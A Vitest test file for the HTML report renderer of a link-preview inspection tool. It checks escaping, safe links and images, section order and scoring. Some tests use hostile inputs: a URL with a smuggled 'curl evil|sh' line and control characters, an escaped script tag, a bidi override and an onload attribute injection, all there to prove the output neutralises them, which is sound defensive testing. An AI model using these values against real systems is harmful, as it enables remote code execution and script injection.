import {
  analyse,
  exampleCapture,
  inspectHtml,
  inspectionSchema,
  PLATFORMS,
  type Inspection,
} from '@linklens/engine'
import { parse, type DefaultTreeAdapterTypes } from 'parse5'
import { describe, expect, it } from 'vitest'
import { BIDI_TRICK, brokenInspection, HOSTILE_TITLE } from '../../../test/fixtures/broken-inspection.ts'
import { fullInspection } from '../../../test/fixtures/full-inspection.ts'
import { shownImages, type Report } from '../../view/report.ts'
import { ReportView } from './report-view.tsx'

type Element = DefaultTreeAdapterTypes.Element

const reportOf = (inspection: Inspection, more: Partial<Report> = {}): Report => ({
  inspection,
  mode: 'live',
  at: new Date('2026-11-20T12:00:00Z'),
  baseUrl: 'https://lens.example',
  userAgent: 'Mozilla/5.0 (compatible; Linklens/0.1.0; +https://lens.example/bot)',
  platforms: PLATFORMS,
  images: shownImages(inspection, (url) => ({ src: `/images/${encodeURIComponent(url)}` })),
  ...more,
})

const render = (inspection: Inspection, more?: Partial<Report>): string =>
  String(<ReportView report={reportOf(inspection, more)} />)

function elementsOf(html: string): Element[] {
  const found: Element[] = []
  const walk = (node: DefaultTreeAdapterTypes.ParentNode) => {
    for (const child of node.childNodes) {
      if (!('tagName' in child)) continue
      found.push(child)
      walk(child)
    }
  }
  walk(parse(html))
  return found
}

const attribute = (element: Element, name: string) =>
  element.attrs.find((entry) => entry.name === name)?.value

const textOf = (node: DefaultTreeAdapterTypes.ParentNode): string =>
  node.childNodes
    .map((child) => ('value' in child ? child.value : 'childNodes' in child ? textOf(child) : ''))
    .join('')

/** A page as it would be without its image. */
const withoutImage: Inspection = { ...fullInspection, imageAnalysis: brokenInspection.imageAnalysis }

describe('the image', () => {
  const html = render(fullInspection)

  it('is described as it was delivered', () => {
    const facts = [...html.matchAll(/<dt>([^<]+)<\/dt><dd><bdi>([^<]*)<\/bdi>/g)].map(([, name, value]) => [
      name,
      value,
    ])
    for (const fact of [
      ['HTTPS', 'all the way'],
      ['robots.txt', 'lets crawlers fetch it; X and Pinterest may not'],
      ['For Accept: */*', 'JPEG, 702 kB'],
      ['For Accept: image/avif, …', 'AVIF, 91.4 kB'],
      ['First byte after', '55 ms'],
      ['Declared', '1,200 × 630 (differs)'],
      ['Declared type', 'image/jpeg'],
    ]) {
      expect(facts).toContainEqual(fact)
    }
  })

  it('is described in a report that was frozen before these facts were saved', () => {
    const {
      https: _,
      robots: __,
      acceptVariants: ___,
      ...delivery
    } = fullInspection.imageAnalysis.delivery ?? {}
    const older = { ...fullInspection, imageAnalysis: { ...fullInspection.imageAnalysis, delivery } }
    const olderHtml = render(older as Inspection)
    expect(olderHtml).toContain('<dt>Served as</dt>')
    expect(olderHtml).not.toContain('<dt>HTTPS</dt>')
  })

  it('has the part that each crop shows', () => {
    expect(html).toContain('1,600 × 838 from 0, 31')
  })
})

describe('a robots.txt that was not evaluated', () => {
  const { platformCompatibility, imageAnalysis } = fullInspection
  const robots = { page: 'unknown', image: 'unknown', reason: 'too-complex' } as const
  const verdicts = Object.entries(platformCompatibility.platforms)
  const { delivery } = imageAnalysis
  const html = render({
    ...fullInspection,
    platformCompatibility: {
      ...platformCompatibility,
      platforms: Object.fromEntries(verdicts.map(([id, verdict]) => [id, { ...verdict, robots }])),
    },
    imageAnalysis: {
      ...imageAnalysis,
      delivery: delivery && {
        ...delivery,
        robots: { everyone: 'unknown', reason: 'too-complex', refused: [] },
      },
    },
  })
  const why = 'it has more rules than this inspection can evaluate'

  it('says so next to each of its verdicts', () => {
    expect(html).toContain(`robots.txt: page unknown, image unknown; ${why}.`)
    expect(html).toContain(`robots.txt gave no answer: ${why}.`)
    expect(html).toContain(`not known: ${why}`)
  })
})

it('says how much of a page was not read', () => {
  const { rawMetadata } = fullInspection
  const omitted = { ...rawMetadata.omitted, unreadBytes: 5_000_000 }
  const html = render({ ...fullInspection, rawMetadata: { ...rawMetadata, omitted } })
  expect(html).toContain('The page is longer than what is read of it: at least its last 5 MB are left out.')
})

describe.each([
  ['full', fullInspection],
  ['broken', brokenInspection],
  ['without an image', withoutImage],
])('the report of the %s fixture', (_, inspection) => {
  const elements = elementsOf(render(inspection))

  it('is drawn from what the schema allows', () => {
    expect(inspectionSchema.parse(inspection)).toEqual(inspection)
  })

  it('needs no inline style or script, so that the policy can forbid them', () => {
    expect(elements.filter((element) => attribute(element, 'style') !== undefined)).toEqual([])
    expect(elements.filter(({ tagName }) => tagName === 'script' || tagName === 'style')).toEqual([])
    const handlers = elements
      .flatMap(({ attrs }) => attrs.map(({ name }) => name))
      .filter((name) => /^on/i.test(name))
    expect(handlers).toEqual([])
  })

  it('links only inside itself, to this service, or to http and https without a referrer', () => {
    for (const link of elements.filter(({ tagName }) => tagName === 'a')) {
      const href = attribute(link, 'href') ?? ''
      expect(href).toMatch(/^(#|\/(?!\/)|https?:\/\/)/)
      if (/^https?:/.test(href)) expect(attribute(link, 'rel')).toBe('nofollow noreferrer')
    }
  })

  it('loads images from this service alone', () => {
    for (const image of elements.filter(({ tagName }) => tagName === 'img' || tagName === 'image')) {
      expect(attribute(image, 'src')).toMatch(/^\/images\//)
      expect(attribute(image, 'alt')).toBeDefined()
    }
  })

  it('has no id twice, and no dangling link', () => {
    const ids = elements.flatMap((element) => attribute(element, 'id') ?? [])
    expect(ids.filter((id, index) => ids.indexOf(id) !== index)).toEqual([])
    const anchors = elements
      .flatMap((element) => attribute(element, 'href') ?? [])
      .filter((href) => href.startsWith('#'))
    // A deduction whose rule has no finding is only possible in a made-up inspection.
    expect(
      anchors.filter((anchor) => !ids.includes(anchor.slice(1)) && anchor !== '#finding-image-present'),
    ).toEqual([])
  })

  it('has its sections in order', () => {
    const sections = elements
      .filter(({ tagName }) => tagName === 'section')
      .map((section) => attribute(section, 'id'))
    expect(sections).toEqual(['old', 'answer', 'cards', 'findings'])
    const folds = elements
      .filter((element) => attribute(element, 'class') === 'fold-body')
      .map((fold) => attribute(fold, 'id'))
    expect(folds).toEqual(['image', 'crawlers', 'ai-readers', 'metadata', 'fetch', 'next', 'programs'])
  })

  it('has a verdict and a card for each platform of the inspection', () => {
    const lines = elements.filter((element) => attribute(element, 'class') === 'platform-line')
    const cards = elements.filter((element) => attribute(element, 'class') === 'platform-card')
    expect(lines).toHaveLength(16)
    expect(cards.map((card) => attribute(card, 'id')).toSorted()).toEqual(
      inspection.platformPreviews.map(({ platform }) => `card-${platform}`).toSorted(),
    )
  })
})

it('has a row for each field that a platform reads, whatever the number of its sources', () => {
  const inspection = inspectHtml('<title>Bread</title><meta property="og:title" content="Rye">', {
    url: 'https://acme.example/bread',
  })
  const { trace = [] } = inspection.platformCompatibility.platforms.x ?? {}
  const fields = new Set(trace.map(({ field }) => field))
  const [, rows = ''] = /aria-label="How X read the page">(.*?)<\/ul>/su.exec(render(inspection)) ?? []
  expect(rows.match(/<li/g)).toHaveLength(fields.size)
  expect(trace.length).toBeGreaterThan(fields.size)
  for (const { source } of trace)
    expect(rows).toContain(source.replaceAll('<', '&lt;').replaceAll('>', '&gt;'))
})

it('says a doubt once under "why": as the cause or a warning, not as a note as well', () => {
  const html =
    '<title>Bread</title><meta name="og:title" content="Bread"><meta property="og:image" content="/a.png">'
  const doubtful = analyse(exampleCapture({ html }))
  // The notes that the engine repeats begin so.
  const repeated = doubtful.platformPreviews.filter(({ platform, notes }) =>
    doubtful.platformCompatibility.platforms[platform]?.warnings.some(({ message }) =>
      notes.includes(`Assumed the likelier case: ${message}`),
    ),
  )
  expect(repeated.length).toBeGreaterThan(0)
  const page = parse(render(doubtful))
  const lines = textsOf(page)
  for (const { platform } of repeated)
    for (const { message } of doubtful.platformCompatibility.platforms[platform]?.warnings ?? [])
      expect(lines).not.toContain(`Assumed the likelier case: ${message}`)
  expect(lines).toContain('Where something is not known, the drawing shows the likelier case.')
})

function textsOf(node: DefaultTreeAdapterTypes.Node): string[] {
  if ('value' in node) return [node.value]
  return 'childNodes' in node ? node.childNodes.flatMap(textsOf) : []
}

describe('the report', () => {
  it('shows hostile text as text, bounded and without control characters', () => {
    const html = render(brokenInspection)
    expect(html).not.toContain(HOSTILE_TITLE)
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;')
    expect(html).not.toContain(BIDI_TRICK)
    expect(html).not.toContain('\u202E')
    expect(html.length).toBeLessThan(600_000)
  })

  it.each(['live', 'local'] as const)('keeps signs that nobody sees out of lines to paste: %s', (mode) => {
    const requestedUrl = 'https://example.com/a\u0015\ncurl evil|sh\n\u001b[201~\u202e\u007f'
    const { fetch, rawMetadata } = fullInspection
    const html = render(
      {
        ...fullInspection,
        fetch: { ...fetch, requestedUrl },
        rawMetadata: { ...rawMetadata, lang: '\u001b[31men\u202e' },
      },
      { mode },
    )
    // oxlint-disable-next-line no-control-regex -- finding them is the point
    expect(html).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202e]/)
    expect(html).not.toContain('\ncurl evil')
  })

  it('isolates text from right to left', () => {
    const title = elementsOf(render(brokenInspection)).find(
      ({ tagName, childNodes }) =>
        tagName === 'bdi' && childNodes.some((child) => 'value' in child && child.value.includes('المد')),
    )
    expect(title).toBeDefined()
    expect(render(brokenInspection)).toContain('dir="auto"')
  })

  it('shows a rule’s finding in several places once, with all of them', () => {
    const [finding] = fullInspection.diagnostics
    if (!finding) throw new Error('the fixture has findings')
    const at = (line: number, message: string) => ({
      ...finding,
      message,
      where: { line, column: 3, offset: line, tag: 'og:title' },
    })
    const said = 'og:title is in name=.'
    const diagnostics = [at(4, said), at(5, said), at(6, `${said} (9 more like this on the page.)`)]
    const html = render({ ...fullInspection, diagnostics })
    const entries = elementsOf(html).filter((element) => attribute(element, 'class') === 'finding-body')
    expect(entries.map((entry) => attribute(entry, 'id'))).toEqual([`finding-${finding.id}`])
    expect(html.match(/<p class="finding-message"><bdi>[^<]*/g)).toEqual([
      `<p class="finding-message"><bdi>${said} (9 more like this on the page.)`,
    ])
    expect(html.match(/line \d, column 3/g)).toEqual([4, 5, 6].map((line) => `line ${line}, column 3`))
  })

  it('draws the author in place of the description', () => {
    const [preview] = fullInspection.platformPreviews
    if (!preview) throw new Error('the fixture has X')
    const platformPreviews = [{ ...preview, platform: 'mastodon', author: 'Ada Marsh' }]
    const compatibility = {
      ...fullInspection.platformCompatibility,
      platforms: { mastodon: fullInspection.platformCompatibility.platforms.x },
    }
    const html = render({
      ...fullInspection,
      platformPreviews,
      platformCompatibility: compatibility as Inspection['platformCompatibility'],
    })
    const line = elementsOf(html).find((element) => attribute(element, 'class')?.includes('card-description'))
    expect(line && textOf(line)).toBe('By Ada Marsh')
  })

  it('says where the drawing ends a text whose cut is not known, and not for one that fits', () => {
    const [preview] = fullInspection.platformPreviews
    if (!preview) throw new Error('the fixture has X')
    const noted = (more: Partial<typeof preview>) =>
      render({ ...fullInspection, platformPreviews: [{ ...preview, ...more }] }).match(
        /The drawing above shows at most \d lines? of the \w+/g,
      )
    const title = 'word '.repeat(64)
    expect(noted({ title })).toEqual(['The drawing above shows at most 8 lines of the title'])
    expect(noted({ title, maxLines: { title: 2, description: null } })).toBeNull()
    expect(noted({})).toBeNull()
  })

  it('marks the language of the page’s own texts, where it is one', () => {
    const inLanguage = (value: string) =>
      elementsOf(
        render({
          ...fullInspection,
          normalizedMetadata: {
            ...fullInspection.normalizedMetadata,
            lang: { value, source: 'html:lang', fallbacks: [] },
          },
        }),
      ).flatMap((element) => {
        const lang = attribute(element, 'lang')
        return lang === undefined
          ? []
          : [`${attribute(element, 'class')?.split(' ')[1] ?? element.tagName} ${lang}`]
      })
    const attributes = inLanguage(' zh-Hant-TW ')
    for (const each of ['card-title', 'card-description', 'img', 'bdi'])
      expect(attributes).toContain(`${each} zh-Hant-TW`)
    // Capitals of a URL follow no language.
    expect(attributes.filter((each) => each.startsWith('card-domain'))).toEqual([])
    for (const none of ['', 'en_US', 'english', 'x"onload="', 'a'.repeat(900)])
      expect(inLanguage(none)).toEqual([])
  })

  it('says why an image failed instead of requesting it', () => {
    const error = { code: 'HTTP_ERROR', message: 'The image answered 403.' } as const
    const html = render({
      ...fullInspection,
      imageAnalysis: { ...fullInspection.imageAnalysis, reachable: false, error },
    })
    const images = elementsOf(html).filter(({ tagName }) => tagName === 'img')
    // What is left is the second image of the gallery, of which nothing bad is known.
    expect(images.map((image) => attribute(image, 'src'))).toEqual([
      '/images/https%3A%2F%2Fcdn.shore.example%2Fsecond.jpg',
    ])
    expect(html).toContain('The image answered 403.')
  })

  it('shows no image where the service cannot fetch any', () => {
    const html = render(fullInspection, { images: new Map() })
    expect(html).not.toContain('<img')
    expect(html).toContain('This image cannot be shown.')
  })

  it('adds up the lost points as the score does', () => {
    const html = render(fullInspection)
    const sum = elementsOf(html).find((element) => attribute(element, 'class') === 'points-sum')
    expect(sum && textOf(sum)).toBe('100− 18− 4= 78')
  })

  it('names the mode it was made in', () => {
    expect(render(fullInspection, { mode: 'frozen' })).toContain('>Snapshot<')
    expect(render(fullInspection, { mode: 'local' })).toContain('Local preview')
  })

  it('draws a platform that has no look', () => {
    const [preview] = fullInspection.platformPreviews
    const verdict = fullInspection.platformCompatibility.platforms.x
    if (!preview || !verdict) throw new Error('the fixture has X')
    const html = render({
      ...fullInspection,
      platformPreviews: [{ ...preview, platform: 'newcomer', name: 'Newcomer' }],
      platformCompatibility: { ...fullInspection.platformCompatibility, platforms: { newcomer: verdict } },
    })
    expect(html).toContain('id="card-newcomer"')
  })
})

describe('the first screen', () => {
  const partOf = (html: string) => /<section class="answer".*?<\/section>/s.exec(html)?.[0] ?? ''

  it('names the first thing to do, linked to its finding, and how many more there are', () => {
    const part = partOf(render(fullInspection))
    const rules = new Set(fullInspection.diagnostics.map(({ id }) => id))
    expect(part).toContain('href="#finding-image-weight"')
    expect(part).toContain(`>${rules.size - 1} more finding`)
  })

  it('says that nothing is to be done where nothing was found', () => {
    expect(partOf(render({ ...fullInspection, diagnostics: [] }))).toContain('Still see an old card?')
  })

  it('shows the worst big platform first', () => {
    const checked = /<input[^>]*name="answer"[^>]*checked=""/.exec(render(fullInspection))?.[0]
    expect(checked).toContain('value="whatsapp"')
  })
})

describe('the timing of a request', () => {
  const timings = { dns: 10, connect: 10, tls: 10, firstByte: 10, download: 10, total: 250 }
  const shown = (fetch: Partial<Inspection['fetch']>) =>
    [
      ...(render({ ...fullInspection, fetch: { ...fullInspection.fetch, timings, ...fetch } })
        .split('>Timing<')[1]
        ?.split('</dl>')[0]
        ?.matchAll(/<dt>([^<]+)<\/dt><dd><bdi>([^<]+)</gs) ?? []),
    ].map(([, name, text]) => `${name} ${text}`)

  it('shows what came before the last request, so that the times add up to the whole', () => {
    const hop = { url: 'https://a.example/', status: 301, location: 'https://b.example/' }
    expect(shown({ redirects: [hop] })[0]).toBe('Redirects 200 ms')
    expect(shown({ redirects: [] })[0]).toBe('Waiting 200 ms')
    expect(shown({ timings: { ...timings, total: 50 } })[0]).toBe('Name 10 ms')
  })
})

describe('the first fix', () => {
  const finding = {
    ...(fullInspection.diagnostics[0] as Inspection['diagnostics'][number]),
    severity: 'error' as const,
    platforms: [],
  }
  const { score } = fullInspection.serviceScore
  const withFix = (proved: number) =>
    render({
      ...fullInspection,
      diagnostics: [
        {
          ...finding,
          fixes: [
            {
              kind: 'tags',
              description: 'Write the right one.',
              snippet: '<meta name="twitter:card" content="summary">',
              apply: { op: 'replace', line: 7, column: 3, tag: 'twitter:card' },
              score: proved,
            },
          ],
        },
      ],
    })

  it('says which tag it replaces', () => {
    expect(withFix(score)).toContain('Put it in place of the <code>twitter:card</code> in line 7.')
  })

  it('has the score of its proof, and no points next to it', () => {
    expect(withFix(score + 3)).not.toMatch(/\+\d+ points/u)
    expect(withFix(score + 3)).toContain(`This fix: ${score} → ${score + 3}.`)
    // The list of findings says it as well.
    expect(withFix(score).match(/This fix:/g)).toHaveLength(1)
  })
})

it('shows both images where two parts of the site name one each', () => {
  const pair = (title: string, image: string) =>
    `<meta property="og:title" content="${title}"><meta property="og:image" content="https://acme.example/${image}.png">`
  const inspection = analyse(
    exampleCapture({
      url: 'https://acme.example/post',
      html: `<!doctype html><title>How acme bakes</title>${pair('Acme app', 'old')}${pair('How acme bakes', 'new')}<h1>How acme bakes</h1>`,
    }),
  )
  const [, finding = ''] =
    /id="finding-tags-written-once">(.*?)<p class="finding-foot">/su.exec(render(inspection)) ?? []
  for (const image of ['old', 'new'])
    expect(finding).toContain(`src="/images/${encodeURIComponent(`https://acme.example/${image}.png`)}"`)
})
